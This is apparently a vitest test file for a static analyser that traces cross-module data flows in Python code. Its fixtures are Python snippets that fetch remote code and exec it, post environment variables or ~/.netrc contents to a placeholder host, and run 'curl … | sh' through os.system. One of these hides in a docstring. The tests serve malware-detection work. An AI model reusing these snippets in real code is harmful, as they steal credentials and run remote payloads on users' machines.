import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { linkedFacts } from '../../src/python/linked/linked-facts.js';
import type { Resolve } from '../../src/python/linked/resolve.js';
import { loadPythonParser } from '../../src/python/parser.js';
import { WASM_FILES } from './reading.js';

const parser = await loadPythonParser({ ...WASM_FILES, backend: 'wasm' });

/** Modules of one folder find one another by `.name`. */
const resolve: Resolve = (name) => {
  const [, module = '', rest = ''] = /^\.(main|shed|box)(?:\(\))?\.?(.*)$/.exec(name) ?? [];
  return module === '' ? null : { path: `${module}.py`, rest };
};

function flows(main: string, shed: string | readonly [string, string], [from, to]: readonly [SourceKind, SinkKind]): readonly string[] {
  const [second, box] = typeof shed === 'string' ? [shed, ''] : shed;
  const files = Object.entries({ 'main.py': main, 'shed.py': second, 'box.py': box }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
  return [...linkedFacts(files, resolve, { parser })].flatMap(([path, facts]) => facts.flows({ from, to }).map(({ when }) => `${path} ${when}`));
}

const GIVES = 'import requests\nclass Bed:\n    def __init__(self, name=""):\n        self.name = name\n';
const REPLY = 'requests.get("https://o.example.invalid/" + self.name).text';

test.each<[string, string, string]>([
  ['is entered', 'with Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return ${REPLY}\n    def __exit__(self, *rest): pass\n`],
  ['is called', 'dig = Bed()\nexec(dig("x"))\n', `    def __call__(self, part): return ${REPLY}\n`],
  ['is asked for an item', 'exec(Bed()["x"])\n', `    def __getitem__(self, part): return ${REPLY}\n`],
  ['is turned into text', 'exec(str(Bed("x")))\n', `    def __str__(self): return ${REPLY}\n`],
  ['is gone through', 'for name, code in Bed():\n    exec(code)\n', `    def __iter__(self):\n        yield "x", ${REPLY}\n`],
  ['is asked for a property', 'exec(Bed("x").code)\n', `    @property\n    def code(self): return ${REPLY}\n`],
])('an object of another module that %s gives what its class says', (_, main, shed) => {
  expect(flows(`from .shed import Bed\n${main}`, GIVES + shed, ['network', 'exec'])).toContain('main.py import');
});

test('an object of another module that is called is told what it is called with', () => {
  expect(flows('import os\nfrom .shed import Bed\nsend = Bed()\nsend(dict(os.environ))\n', `${GIVES}    def __call__(self, data): requests.post("https://o.example.invalid", json=data)\n`, ['environment', 'network'])).toContain('shed.py import');
});

test('a method of another module that is called `open` opens no file', () => {
  const shed = 'from itertools import cycle\nclass Bed:\n    def __init__(self, key): self.key = key\n    def open(self, data): return bytes(a ^ b for a, b in zip(data, cycle(self.key)))\n';
  expect(flows('from .shed import Bed\nexec(Bed(b"k3y").open(b"\\x1b\\x02"))\n', shed, ['decoder', 'exec'])).toContain('main.py import');
});

test('a method of a base is given what the heirs of other modules give it', () => {
  const base = 'import json, urllib.request\nclass Job:\n    def collect(self): raise NotImplementedError\n    def send(self): urllib.request.urlopen("https://o.example.invalid", json.dumps(self.collect()).encode())\n';
  expect(flows('import os\nfrom .shed import Job\nclass Mine(Job):\n    def collect(self): return dict(os.environ)\nMine().send()\n', base, ['environment', 'network'])).toContain('shed.py import');
});

test('a function within a function of another module takes its first argument for what it is', () => {
  const shed = 'import urllib.request\ndef remote(place):\n    def wrap(function):\n        function(urllib.request.urlopen(place).read())\n        return function\n    return wrap\n';
  expect(flows('from .shed import remote\n@remote("https://o.example.invalid")\ndef bed(code): exec(code)\n', shed, ['network', 'exec'])).toContain('main.py import');
});

test.each<[string, string, string]>([
  ['a method that nobody calls', 'with Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return "x = 1"\n    def __exit__(self, *rest): pass\n    def dig(self): return ${REPLY}\n`],
  ['an object of somebody else\'s class', 'import other\nwith other.Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return ${REPLY}\n`],
])('%s gives nothing', (_, main, shed) => {
  expect(flows(`from .shed import Bed\n${main}`, GIVES + shed, ['network', 'exec'])).toEqual([]);
});

const SEND = 'requests.post("https://o.example.invalid", data=str(';

test.each<[string, string, readonly [string, string]]>([
  ['a dict of a module between them', 'import os\nfrom . import box\nfor name in (".netrc",): box.FOUND[name] = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.FOUND))\n`, 'FOUND = {}\n']],
  ['a list of a module between them', 'import os\nfrom .box import QUEUE\nQUEUE.append(open(os.path.expanduser("~/.netrc")).read())\n', [`import requests\nfrom .box import QUEUE\n${SEND}QUEUE))\n`, 'QUEUE = []\n']],
  ['a variable of a module between them', 'import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.KEY))\n`, 'KEY = None\n']],
])('what one module puts into %s is found there by the other', (_, main, files) => {
  expect(flows(main, files, ['credentials', 'network'])).toContain('shed.py import');
});

test('what one module puts into another variable is not found there', () => {
  expect(flows('import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.NAME))\n`, 'KEY = None\nNAME = "x"\n'], ['credentials', 'network'])).toEqual([]);
});

test('a class of several bases from other modules has the methods of each of them', () => {
  const main = 'from .box import Look\nfrom .shed import Post\nclass Agent(Look, Post):\n    def go(self): self.post(self.look())\nAgent().go()\n';
  const post = 'import requests\nclass Post:\n    def post(self, data): requests.post("https://o.example.invalid", json=data)\n';
  const look = 'import os\nclass Look:\n    def look(self): return dict(os.environ)\n';
  expect(flows(main, [post, look], ['environment', 'network'])).toContain('shed.py import');
});

const FETCHED = 'requests.get("https://o.example.invalid").text';

test.each<[string, string, string]>([
  ['a variable of a context', 'import contextvars\nbed = contextvars.ContextVar("bed")\ndef dig(): exec(bed.get())\n', `bed.set(${FETCHED})`],
  ['a list', 'bed = []\ndef dig():\n    for code in bed: exec(code)\n', `bed.append(${FETCHED})`],
  ['a dict', 'bed = {}\ndef dig(): exec(bed["x"])\n', `bed["x"] = ${FETCHED}`],
])('%s of a module is emptied there of what another module has put into it', (_, shed, fill) => {
  expect(flows(`import requests\nfrom .shed import bed, dig\n${fill}\ndig()\n`, shed, ['network', 'exec'])).toContain('shed.py import');
});

test('a variable of the environment is that of all modules', () => {
  expect(flows('import os\nfrom .shed import fill\nfill()\nexec(os.environ["BED"])\n', `import os, requests\ndef fill(): os.environ["BED"] = ${FETCHED}\n`, ['network', 'exec'])).toContain('main.py import');
});

test('what another module has put into one list does not come out of another one', () => {
  expect(flows(`import requests\nfrom .shed import bed, dig\nbed.append(${FETCHED})\ndig()\n`, 'bed = []\nshelf = []\ndef dig():\n    for code in shelf: exec(code)\n', ['network', 'exec'])).toEqual([]);
});

const TABLE = 'import os\nTABLE = {"act": os.system, "leaf": "curl https://o.example.invalid/x | sh"}\n';

const startsIn = (main: string, shed: string): boolean | undefined => {
  const files = Object.entries({ 'main.py': main, 'shed.py': shed }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
  return linkedFacts(files, resolve, { parser }).get('main.py')?.calls('process').some(({ traits }) => traits.has('fetches-and-runs'));
};

test.each<[string, string]>([
  ['gone through', 'for name, value in TABLE.items():\n    globals()[name] = value\nact(leaf)\n'],
  ['taken up as a whole', 'globals().update(TABLE)\nact(leaf)\n'],
  ['handed on name by name', 'def go(act, leaf): act(leaf)\ngo(**TABLE)\n'],
])('a dict of another module that is %s is known by its names', (_, text) => {
  expect(startsIn(`from .shed import TABLE\n${text}`, TABLE)).toBe(true);
});

test('what objects of another module keep is taken apart with them', () => {
  const shed = 'import os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Bed:\n    leaves: dict = field(default_factory=lambda: dict(os.environ))\n';
  expect(flows('import dataclasses, json, requests\nfrom .shed import Bed\nrequests.post("https://o.example.invalid", json=dataclasses.asdict(Bed()))\n', `${shed}    def __post_init__(self): self.all = dict(os.environ)\n`, ['environment', 'network'])).toContain('main.py import');
});

test.each<[string, string, string]>([
  ['makes a class', 'class Rose(metaclass=Bed):\n    leaf = LEAF\n', 'class Bed(type):\n    def __new__(mcs, name, bases, names):\n        exec(names["leaf"])\n'],
  ['is what the names of a class are put into', 'class Rose(metaclass=Bed):\n    leaf = LEAF\n', 'class Names(dict):\n    def __setitem__(self, key, value): exec(value)\nclass Bed(type):\n    @classmethod\n    def __prepare__(mcs, name, bases): return Names()\n'],
  ['is asked for a part by its class', 'Bed[LEAF]\n', 'class Bed:\n    def __class_getitem__(cls, item): exec(item)\n'],
  ['stands in a class', 'class Rose:\n    leaf = Bed()\n    def dig(self, code): exec(code)\nRose().leaf\n', 'import requests\nclass Bed:\n    def __get__(self, rose, owner): return rose.dig(requests.get("https://o.example.invalid").text)\n'],
])('a class of another module is told of what it %s', (_, text, shed) => {
  expect(flows(`import requests\nfrom .shed import Bed\nLEAF = ${FETCHED}\n${text}`, shed, ['network', 'exec']).filter((flow) => flow.endsWith('import'))).not.toEqual([]);
});

test('what stands at the top of a function of another module is known there', () => {
  expect(startsIn('from .shed import leaf\nexec(leaf.__doc__)\n', 'def leaf():\n    "import os; os.system(\'curl https://o.example.invalid/x | sh\')"\n')).toBe(true);
});

test('a text of a kind of its own in another module says there what it was made of', () => {
  const shed = 'import os, requests\nclass Leaf(str):\n    def __new__(cls): return super().__new__(cls, str(dict(os.environ)))\n    def send(self): requests.post("https://o.example.invalid", data=self.encode())\n';
  expect(flows('from .shed import Leaf\nLeaf().send()\n', shed, ['environment', 'network'])).toContain('shed.py import');
});
